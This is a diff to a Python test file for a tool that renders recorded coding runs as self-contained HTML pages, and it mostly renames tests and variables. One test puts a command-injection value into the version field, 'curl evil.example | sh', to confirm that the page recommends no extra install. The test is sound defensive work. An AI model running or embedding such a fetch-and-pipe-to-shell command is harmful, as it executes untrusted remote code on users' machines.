@@ -1,4 +1,4 @@
-"""A run as a page: everything is told, it stands alone, and nothing foreign acts in it."""
+"""A run as a page: it shows everything, is self-contained, and executes nothing foreign."""
 
 import re
 from dataclasses import replace
@@ -109,8 +109,8 @@ def test_headings_have_no_gaps():
     assert all(level <= before + 1 for before, level in pairwise(levels))
 
 
-def test_everything_is_told():
-    said = words(page(trace=Path("my traces/run.ipynb")))
+def test_the_page_shows_everything():
+    text = words(page(trace=Path("my traces/run.ipynb")))
     for part in (
         "Exploration of networkx",
         "Count the triangles of the karate club graph.",
@@ -131,7 +131,7 @@ def test_everything_is_told():
         "jupyter explora check run.ipynb",
         "pip install exploracoder-jupyter==0.1.0",
     ):
-        assert part in said
+        assert part in text
 
 
 def test_only_what_was_carried_forward_is_unfolded():
@@ -139,7 +139,7 @@ def test_only_what_was_carried_forward_is_unfolded():
     assert [attributes["class"] for attributes in unfolded] == ["tried won"] * 2
 
 
-def test_searches_and_passages_are_told_with_links_and_licences():
+def test_searches_and_passages_are_shown_with_links_and_licences():
     passage = Passage("web", "Counting", "text", "https://example.org/q?a=1&b=2", licence="CC BY-SA 4.0")
     events = complete_events()
     at = next(n for n, event in enumerate(events) if event == proposed("2.1", "nx.triangle(G)"))
@@ -153,47 +153,47 @@ def test_searches_and_passages_are_told_with_links_and_licences():
     assert link == {"href": "https://example.org/q?a=1&b=2", "rel": "noreferrer noopener"}
 
 
-def test_generated_inputs_and_judgements_are_told():
+def test_generated_inputs_and_judgements_are_shown():
     events = complete_events()
     tested = [
         InputsInvented((InventedInput("t1", "an empty graph", "G = nx.Graph()", "result"),)),
         SolutionTested("s2", (InputRun("t1", Observation("ok", (stream("zero\n"),))),)),
         SolutionJudged("s2", Judgement("right", "it counts", (Opinion("t1", "right", "none in it"),))),
     ]
-    said = words(page(recorded([*events[:-1], *tested, events[-1]])))
-    assert "Solution s2 judged by its outputs: ✓ right: it counts." in said
-    assert "an empty graph: ✓ right (none in it)" in said
-    assert "G = nx.Graph() # here s2 runs, as above result zero" in said
+    text = words(page(recorded([*events[:-1], *tested, events[-1]])))
+    assert "Solution s2 judged by its outputs: ✓ right: it counts." in text
+    assert "an empty graph: ✓ right (none in it)" in text
+    assert "G = nx.Graph() # here s2 runs, as above result zero" in text
 
 
-def test_what_the_solution_gave_and_wrote_is_told():
+def test_output_and_files_of_the_solution_are_shown():
     events = complete_events()
-    said = words(page(recorded([*events[:-1], FilesKept("run.files", ("a.csv",)), events[-1]])))
-    assert "Output the end" in said
-    assert "The solution wrote 1 file, kept in run.files: a.csv." in said
+    text = words(page(recorded([*events[:-1], FilesKept("run.files", ("a.csv",)), events[-1]])))
+    assert "Output the end" in text
+    assert "The solution wrote 1 file, kept in run.files: a.csv." in text
 
 
-def test_a_run_that_was_cut_off_is_told_as_such():
-    said = words(page(recorded(complete_events()[:12])))
-    assert "No verdict is recorded yet" in said
-    assert "1.1 ■ not finished" in said
-    assert "What it cost" not in said
+def test_an_interrupted_run_is_shown_as_such():
+    text = words(page(recorded(complete_events()[:12])))
+    assert "No verdict is recorded yet" in text
+    assert "1.1 ■ not finished" in text
+    assert "What it cost" not in text
 
 
 def test_a_run_without_a_solution_has_what_was_tried():
     events = [event for event in complete_events() if not isinstance(event, RunFinished)]
-    said = words(page(recorded([*events, finished("unsolved", None, reason="None passed.")])))
-    assert "✗ Unsolved (no solution was found). None passed." in said
-    assert "s2 ✓ ran" in said
+    text = words(page(recorded([*events, finished("unsolved", None, reason="None passed.")])))
+    assert "✗ Unsolved (no solution was found). None passed." in text
+    assert "s2 ✓ ran" in text
 
 
-def test_what_a_stopped_run_put_together_is_told_as_never_run():
+def test_the_joined_program_of_a_stopped_run_is_marked_as_never_run():
     events = [event for event in complete_events() if not isinstance(event, RunFinished)]
     joined = finished("stopped", "print('joined')", candidate="", reason="By the user.")
-    said = words(page(recorded([*events, joined])))
-    assert "what was learned until then is below. By the user." in said
-    assert "It was not run as a whole. print('joined')" in said
-    assert "Output the end" not in said
+    text = words(page(recorded([*events, joined])))
+    assert "what was learned until then is below. By the user." in text
+    assert "It was not run as a whole. print('joined')" in text
+    assert "Output the end" not in text
 
 
 def test_without_its_beginning_it_is_refused():
@@ -240,7 +240,7 @@ def test_what_looks_like_a_tag_in_an_attribute_is_left_alone():
     assert adapt_fragment('<img src="data:," title="alt=">').startswith('<img alt="Picture" ')
 
 
-def test_nobody_is_told_to_install_anything_else():
+def test_the_page_recommends_installing_nothing_else():
     begun = replace(started(), version="0.1.0 evil; curl evil.example | sh")
     made = words(page(recorded([begun, *complete_events()[1:]])))
     assert "pip install exploracoder-jupyter jupyter explora check" in made
@@ -291,9 +291,9 @@ def test_the_richest_form_is_shown():
 
 
 def test_a_terminal_is_shown_as_it_ends_up():
-    said = words(with_outputs(stream("\r 10%\r100%\n\x1b[31mred\x1b[0m\n")))
-    assert "100% red" in said
-    assert "10%\r" not in said
+    text = words(with_outputs(stream("\r 10%\r100%\n\x1b[31mred\x1b[0m\n")))
+    assert "100% red" in text
+    assert "10%\r" not in text
 
 
 def test_the_same_trace_gives_the_same_page():
